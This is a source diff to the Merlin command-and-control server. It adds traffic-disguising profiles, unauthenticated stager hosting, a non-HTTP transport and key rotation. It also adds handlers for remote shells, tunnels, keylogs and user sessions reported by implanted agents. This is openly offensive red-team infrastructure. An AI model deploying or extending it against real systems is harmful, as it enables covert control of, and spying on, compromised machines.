@@ -28,6 +28,7 @@ import (
 	"errors"
 	"fmt"
 	"io/ioutil"
+	"log"
 	"net/http"
 	"os"
 	"strconv"
@@ -47,37 +48,54 @@ import (
 	// Merlin
 	"github.com/Ne0nd0g/merlin/pkg/agents"
 	"github.com/Ne0nd0g/merlin/pkg/core"
+	"github.com/Ne0nd0g/merlin/pkg/events"
 	"github.com/Ne0nd0g/merlin/pkg/logging"
 	"github.com/Ne0nd0g/merlin/pkg/messages"
+	"github.com/Ne0nd0g/merlin/pkg/profiles"
+	"github.com/Ne0nd0g/merlin/pkg/stager"
+	"github.com/Ne0nd0g/merlin/pkg/storage"
 	"github.com/Ne0nd0g/merlin/pkg/util"
 )
 
 // Server is a structure for creating and instantiating new server objects
 type Server struct {
-	ID          uuid.UUID      // Unique identifier for the Server object
-	Interface   string         // The network adapter interface the server will listen on
-	Port        int            // The port the server will listen on
-	Protocol    string         // The protocol (i.e. HTTP/2 or HTTP/3) the server will use
-	Key         string         // The x.509 private key used for TLS encryption
-	Certificate string         // The x.509 public key used for TLS encryption
-	Server      interface{}    // A Golang server object (i.e http.Server or h3quic.Server)
-	Mux         *http.ServeMux // The message handler/multiplexer
-	jwtKey      []byte         // The password used by the server to create JWTs
-	psk         string         // The pre-shared key password used prior to Password Authenticated Key Exchange (PAKE)
-	opaqueKey   kyber.Scalar   // OPAQUE server's keys
+	ID          uuid.UUID         // Unique identifier for the Server object
+	Interface   string            // The network adapter interface the server will listen on
+	Port        int               // The port the server will listen on
+	Protocol    string            // The protocol (i.e. HTTP/2 or HTTP/3) the server will use
+	Key         string            // The x.509 private key used for TLS encryption
+	Certificate string            // The x.509 public key used for TLS encryption
+	Server      interface{}       // A Golang server object (i.e http.Server or h3quic.Server)
+	Mux         *http.ServeMux    // The message handler/multiplexer
+	Profile     *profiles.Profile // Shapes agent HTTP traffic; nil uses Merlin's default messages
+	jwtKey      []byte            // The password used by the server to create JWTs
+	creds       *credentials      // The certificate and pre-shared keys, which can be rotated while the listener runs
+	opaqueKey   kyber.Scalar      // OPAQUE server's keys
 }
 
 // New instantiates a new server object and returns it
 func New(iface string, port int, protocol string, key string, certificate string, psk string) (Server, error) {
+	return NewWithProfile(iface, port, protocol, key, certificate, psk, nil)
+}
+
+// NewWithProfile instantiates a new server object whose agent traffic is shaped by the profile and returns it
+func NewWithProfile(iface string, port int, protocol string, key string, certificate string, psk string,
+	profile *profiles.Profile) (Server, error) {
 	s := Server{
 		ID:        uuid.NewV4(),
 		Protocol:  protocol,
 		Interface: iface,
 		Port:      port,
 		Mux:       http.NewServeMux(),
-		jwtKey:    []byte(core.RandStringBytesMaskImprSrc(32)), // Used to sign and encrypt JWT
-		psk:       psk,
+		Profile:   profile,
+		creds:     &credentials{psks: []string{psk}},
+	}
+	// Used to sign and encrypt JWT; kept in storage so agents' tokens are still valid after the server restarts
+	jwtKey, errJWT := storage.Current().Key("jwt")
+	if errJWT != nil {
+		return s, errJWT
 	}
+	s.jwtKey = jwtKey
 	// OPAQUE Server Public/Private keys; Can be used with every agent
 	s.opaqueKey = gopaque.CryptoDefault.NewKey(nil)
 
@@ -168,9 +186,11 @@ func New(iface string, port int, protocol string, key string, certificate string
 	logging.Server(fmt.Sprintf("Starting Merlin Server using an X.509 certificate with a SHA256 hash, "+
 		"calculated by Merlin, of %s", sha256Fingerprint))
 
-	// Configure TLS
+	s.creds.certificate = cer
+
+	// Configure TLS; the certificate is looked up for each connection so it can be rotated
 	TLSConfig := &tls.Config{
-		Certificates:             []tls.Certificate{cer},
+		GetCertificate:           s.creds.getCertificate,
 		MinVersion:               tls.VersionTLS12,
 		CurvePreferences:         []tls.CurveID{tls.CurveP521, tls.CurveP384, tls.CurveP256},
 		PreferServerCipherSuites: true,
@@ -182,15 +202,20 @@ func New(iface string, port int, protocol string, key string, certificate string
 		//NextProtos: []string{protocol}, //Dont need to specify because server will pick
 	}
 
-	s.Mux.HandleFunc("/", s.agentHandler)
+	if s.Profile != nil {
+		s.Mux.HandleFunc("/", s.profileHandler)
+	} else {
+		s.Mux.HandleFunc("/", s.agentHandler)
+	}
 
 	srv := &http.Server{
-		Addr:           s.Interface + ":" + strconv.Itoa(s.Port),
-		Handler:        s.Mux,
+		Addr:           util.JoinHostPort(s.Interface, strconv.Itoa(s.Port)),
+		Handler:        logRequests(s.ID, s.Mux),
 		ReadTimeout:    10 * time.Second,
 		WriteTimeout:   10 * time.Second,
 		MaxHeaderBytes: 1 << 20,
 		TLSConfig:      TLSConfig,
+		ErrorLog:       log.New(errorLog{s.ID}, "", 0),
 		//TLSNextProto: make(map[string]func(*http.Server, *tls.Conn, http.Handler), 0), // <- Disables HTTP/2
 	}
 
@@ -212,18 +237,84 @@ func New(iface string, port int, protocol string, key string, certificate string
 	return s, nil
 }
 
+// Handler is the agent message handler of a listener that does not use HTTP; its pre-shared keys can be rotated while
+// it is serving agents
+type Handler struct {
+	server Server
+}
+
+// NewHandler returns the agent message handler, without a TLS listener, for transports such as DNS that carry the same
+// JWT authenticated and JWE encrypted messages as the HTTP listener. Agents that check in through it are attributed to
+// the listener with the ID.
+func NewHandler(id uuid.UUID, psk string) (*Handler, error) {
+	jwtKey, err := storage.Current().Key("jwt")
+	if err != nil {
+		return nil, err
+	}
+	h := &Handler{server: Server{
+		ID:        id,
+		jwtKey:    jwtKey,
+		creds:     &credentials{psks: []string{psk}},
+		opaqueKey: gopaque.CryptoDefault.NewKey(nil),
+	}}
+	return h, nil
+}
+
+// ServeHTTP handles an agent message
+func (h *Handler) ServeHTTP(w http.ResponseWriter, r *http.Request) {
+	h.server.agentHandler(w, r)
+}
+
+// PSKs returns the pre-shared keys the handler accepts, starting with its own
+func (h *Handler) PSKs() []string {
+	return h.server.PSKs()
+}
+
+// SetPSKs replaces the pre-shared keys the handler accepts. The first key becomes the handler's own.
+func (h *Handler) SetPSKs(psks []string) error {
+	return h.server.SetPSKs(psks)
+}
+
+// Serve passes an agent message received by a listener that does not use HTTP, along with the agent's Authorization
+// header value, to the agent message handler and returns the response's HTTP status code and body
+func Serve(handler http.Handler, proto string, remoteAddr string, token string, body []byte) (int, []byte) {
+	req, err := http.NewRequest(http.MethodPost, "/", bytes.NewReader(body))
+	if err != nil {
+		return http.StatusInternalServerError, nil
+	}
+	req.Header.Set("Authorization", token)
+	req.Header.Set("Content-Type", "application/octet-stream; charset=utf-8")
+	req.RemoteAddr = remoteAddr
+	req.Proto = proto
+	w := &responseWriter{header: make(http.Header), status: http.StatusOK}
+	handler.ServeHTTP(w, req)
+	return w.status, w.body.Bytes()
+}
+
+// responseWriter keeps the agent message handler's response for listeners that do not use HTTP
+type responseWriter struct {
+	header http.Header
+	status int
+	body   bytes.Buffer
+}
+
+func (w *responseWriter) Header() http.Header         { return w.header }
+func (w *responseWriter) Write(b []byte) (int, error) { return w.body.Write(b) }
+func (w *responseWriter) WriteHeader(status int)      { w.status = status }
+
 // Run function starts the server on the preconfigured port for the preconfigured service
 func (s *Server) Run() error {
-	logging.Server(fmt.Sprintf("Starting %s Listener at %s:%d", s.Protocol, s.Interface, s.Port))
+	addr := util.JoinHostPort(s.Interface, strconv.Itoa(s.Port))
+	logging.Server(fmt.Sprintf("Starting %s Listener at %s", s.Protocol, addr))
 
 	time.Sleep(45 * time.Millisecond) // Sleep to allow the shell to start up
-	if s.psk == "merlin" {
+	if s.creds.keys()[0] == "merlin" {
 		fmt.Println()
 		message("warn", "Listener was started using \"merlin\" as the Pre-Shared Key (PSK) allowing anyone"+
 			" decrypt message traffic.")
 		message("note", "Consider changing the PSK by using the -psk command line flag.")
 	}
-	message("note", fmt.Sprintf("Starting %s listener on %s:%d", s.Protocol, s.Interface, s.Port))
+	message("note", fmt.Sprintf("Starting %s listener on %s", s.Protocol, addr))
 
 	if s.Protocol == "h2" {
 		server := s.Server.(*http.Server)
@@ -237,7 +328,15 @@ func (s *Server) Run() error {
 				return
 			}
 		}()
-		go logging.Server(server.ListenAndServeTLS(s.Certificate, s.Key).Error())
+		if err := events.Publish(events.Listener, "", fmt.Sprintf("Started %s listener %s at %s", s.Protocol, s.ID, addr)); err != nil {
+			message("warn", err.Error())
+		}
+		// The certificate comes from the TLS configuration so it can be rotated
+		errServe := server.ListenAndServeTLS("", "")
+		logging.Server(errServe.Error())
+		if err := events.Publish(events.Listener, "", fmt.Sprintf("Stopped %s listener %s at %s: %s", s.Protocol, s.ID, addr, errServe.Error())); err != nil {
+			message("warn", err.Error())
+		}
 		return nil
 	} else if s.Protocol == "hq" {
 		server := s.Server.(*h2quic.Server)
@@ -251,12 +350,71 @@ func (s *Server) Run() error {
 				return
 			}
 		}()
-		go logging.Server(server.ListenAndServeTLS(s.Certificate, s.Key).Error())
+		if err := events.Publish(events.Listener, "", fmt.Sprintf("Started %s listener %s at %s", s.Protocol, s.ID, addr)); err != nil {
+			message("warn", err.Error())
+		}
+		errServe := server.ListenAndServeTLS(s.Certificate, s.Key)
+		logging.Server(errServe.Error())
+		if err := events.Publish(events.Listener, "", fmt.Sprintf("Stopped %s listener %s at %s: %s", s.Protocol, s.ID, addr, errServe.Error())); err != nil {
+			message("warn", err.Error())
+		}
 		return nil
 	}
 	return fmt.Errorf("%s is an invalid server protocol", s.Protocol)
 }
 
+// profileHandler translates agent messages shaped by the server's profile into Merlin's default messages for the agent
+// handler and shapes the agent handler's response with the profile
+func (s *Server) profileHandler(w http.ResponseWriter, r *http.Request) {
+	if r.Method != http.MethodPost {
+		s.agentHandler(w, r)
+		return
+	}
+	if !s.Profile.HasURI(r.URL.Path) {
+		w.WriteHeader(404)
+		return
+	}
+	body, err := ioutil.ReadAll(r.Body)
+	if err != nil {
+		message("warn", fmt.Sprintf("There was an error reading a POST message sent by an agent:\r\n%s", err.Error()))
+		w.WriteHeader(404)
+		return
+	}
+	body, err = s.Profile.Client.Decode(body)
+	if err != nil {
+		if core.Verbose {
+			message("warn", fmt.Sprintf("There was an error decoding a message from %s with the %s profile:\r\n%s",
+				r.RemoteAddr, s.Profile.Name, err.Error()))
+		}
+		w.WriteHeader(404)
+		return
+	}
+	r.Body = ioutil.NopCloser(bytes.NewReader(body))
+	r.ContentLength = int64(len(body))
+	r.Header.Set("Authorization", s.Profile.Token(r))
+
+	rw := &responseWriter{header: make(http.Header), status: http.StatusOK}
+	s.agentHandler(rw, r)
+	if rw.status != http.StatusOK {
+		w.WriteHeader(rw.status)
+		return
+	}
+	response, err := s.Profile.Server.Encode(rw.body.Bytes())
+	if err != nil {
+		message("warn", fmt.Sprintf("There was an error encoding a message with the %s profile:\r\n%s",
+			s.Profile.Name, err.Error()))
+		w.WriteHeader(404)
+		return
+	}
+	for k, v := range s.Profile.Server.Headers {
+		w.Header().Set(k, v)
+	}
+	w.WriteHeader(http.StatusOK)
+	if _, err = w.Write(response); err != nil {
+		logging.Server(fmt.Sprintf("There was an error writing a response to %s:\r\n%s", r.RemoteAddr, err.Error()))
+	}
+}
+
 // agentHandler function is responsible for all Merlin agent traffic
 func (s *Server) agentHandler(w http.ResponseWriter, r *http.Request) {
 	if core.Verbose {
@@ -271,9 +429,12 @@ func (s *Server) agentHandler(w http.ResponseWriter, r *http.Request) {
 		message("debug", fmt.Sprintf("Method: %s", r.Method))
 		message("debug", fmt.Sprintf("Protocol: %s", r.Proto))
 		message("debug", fmt.Sprintf("Headers: %s", r.Header))
-		message("debug", fmt.Sprintf("TLS Negotiated Protocol: %s", r.TLS.NegotiatedProtocol))
-		message("debug", fmt.Sprintf("TLS Cipher Suite: %d", r.TLS.CipherSuite))
-		message("debug", fmt.Sprintf("TLS Server Name: %s", r.TLS.ServerName))
+		// Messages from other transports, such as DNS, do not have a TLS connection
+		if r.TLS != nil {
+			message("debug", fmt.Sprintf("TLS Negotiated Protocol: %s", r.TLS.NegotiatedProtocol))
+			message("debug", fmt.Sprintf("TLS Cipher Suite: %d", r.TLS.CipherSuite))
+			message("debug", fmt.Sprintf("TLS Server Name: %s", r.TLS.ServerName))
+		}
 		message("debug", fmt.Sprintf("Content Length: %d", r.ContentLength))
 
 		logging.Server(fmt.Sprintf("[DEBUG]HTTP Connection Details:"))
@@ -282,9 +443,11 @@ func (s *Server) agentHandler(w http.ResponseWriter, r *http.Request) {
 		logging.Server(fmt.Sprintf("[DEBUG]Method: %s", r.Method))
 		logging.Server(fmt.Sprintf("[DEBUG]Protocol: %s", r.Proto))
 		logging.Server(fmt.Sprintf("[DEBUG]Headers: %s", r.Header))
-		logging.Server(fmt.Sprintf("[DEBUG]TLS Negotiated Protocol: %s", r.TLS.NegotiatedProtocol))
-		logging.Server(fmt.Sprintf("[DEBUG]TLS Cipher Suite: %d", r.TLS.CipherSuite))
-		logging.Server(fmt.Sprintf("[DEBUG]TLS Server Name: %s", r.TLS.ServerName))
+		if r.TLS != nil {
+			logging.Server(fmt.Sprintf("[DEBUG]TLS Negotiated Protocol: %s", r.TLS.NegotiatedProtocol))
+			logging.Server(fmt.Sprintf("[DEBUG]TLS Cipher Suite: %d", r.TLS.CipherSuite))
+			logging.Server(fmt.Sprintf("[DEBUG]TLS Server Name: %s", r.TLS.ServerName))
+		}
 		logging.Server(fmt.Sprintf("[DEBUG]Content Length: %d", r.ContentLength))
 	}
 
@@ -293,6 +456,15 @@ func (s *Server) agentHandler(w http.ResponseWriter, r *http.Request) {
 		message("warn", fmt.Sprintf("Someone from %s is attempting to fingerprint this Merlin server", r.RemoteAddr))
 		//w.WriteHeader(404)
 	}
+	// Stagers and agents hosted on this listener are downloaded without a JWT
+	if r.Method == http.MethodGet && stager.Serve(s.ID, w, r) {
+		return
+	}
+	if !s.checkClientCert(r) {
+		w.WriteHeader(404)
+		return
+	}
+
 	// Make sure the message has a JWT
 	token := r.Header.Get("Authorization")
 	if token == "" {
@@ -340,10 +512,15 @@ func (s *Server) agentHandler(w http.ResponseWriter, r *http.Request) {
 				message("warn", errValidate.Error())
 				message("note", "trying again with interface PSK")
 			}
-			// Validate JWT using interface PSK; Used by unauthenticated agents
-			hashedKey := sha256.Sum256([]byte(s.psk))
-			key = hashedKey[:]
-			agentID, errValidate = validateJWT(strings.Split(token, " ")[1], key)
+			// Validate JWT using interface PSK; Used by unauthenticated agents. While the PSK is being rotated, the
+			// previous PSK is also accepted.
+			for _, psk := range s.creds.keys() {
+				hashedKey := sha256.Sum256([]byte(psk))
+				key = hashedKey[:]
+				if agentID, errValidate = validateJWT(strings.Split(token, " ")[1], key); errValidate == nil {
+					break
+				}
+			}
 			if errValidate != nil {
 				if core.Verbose {
 					message("warn", errValidate.Error())
@@ -351,6 +528,8 @@ func (s *Server) agentHandler(w http.ResponseWriter, r *http.Request) {
 				w.WriteHeader(404)
 				return
 			}
+			matchAgent(r, agentID)
+			s.clientCertSeen(r, agentID)
 			if core.Debug {
 				message("info", "Unauthenticated JWT")
 			}
@@ -501,6 +680,9 @@ func (s *Server) agentHandler(w http.ResponseWriter, r *http.Request) {
 				w.WriteHeader(404)
 				return
 			}
+			matchAgent(r, agentID)
+			agents.SetListener(agentID, s.ID)
+			s.clientCertSeen(r, agentID)
 
 			if core.Debug {
 				message("debug", fmt.Sprintf("[DEBUG]POST DATA: %v", j))
@@ -516,6 +698,12 @@ func (s *Server) agentHandler(w http.ResponseWriter, r *http.Request) {
 				j.Type = "ReAuthenticate"
 			}
 
+			// A repeated message sequence number means the agent was cloned to another host; fork the second host into
+			// its own agent instead of processing the message
+			if agents.IsClone(j) {
+				j.Type = "IdentityFork"
+			}
+
 			// Authenticated and authorized message types
 			switch j.Type {
 			case "KeyExchange":
@@ -528,8 +716,20 @@ func (s *Server) agentHandler(w http.ResponseWriter, r *http.Request) {
 				err = agents.UpdateInfo(j)
 			case "FileTransfer":
 				err = agents.FileTransfer(j)
+			case "UserSessions":
+				err = agents.UserSessions(j)
+			case "Keylog":
+				err = agents.Keylog(j)
+			case "Crash":
+				err = agents.Crash(j)
+			case "Tunnel":
+				returnMessage, err = agents.Tunnel(j)
+			case "Shell":
+				returnMessage, err = agents.Shell(j)
 			case "ReAuthenticate":
 				returnMessage, err = agents.OPAQUEReAuthenticate(agentID)
+			case "IdentityFork":
+				returnMessage = agents.ForkAgent(j, r.RemoteAddr)
 			default:
 				err = fmt.Errorf("invalid message type: %s", j.Type)
 			}
@@ -548,7 +748,7 @@ func (s *Server) agentHandler(w http.ResponseWriter, r *http.Request) {
 			returnMessage.ID = agentID
 		}
 		if core.Verbose {
-			message("note", fmt.Sprintf("Sending "+returnMessage.Type+" message type to agent"))
+			message("note", fmt.Sprintf("Sending %s message type to agent", returnMessage.Type))
 		}
 
 		// Get JWT to add to message.Base for all messages except re-authenticate messages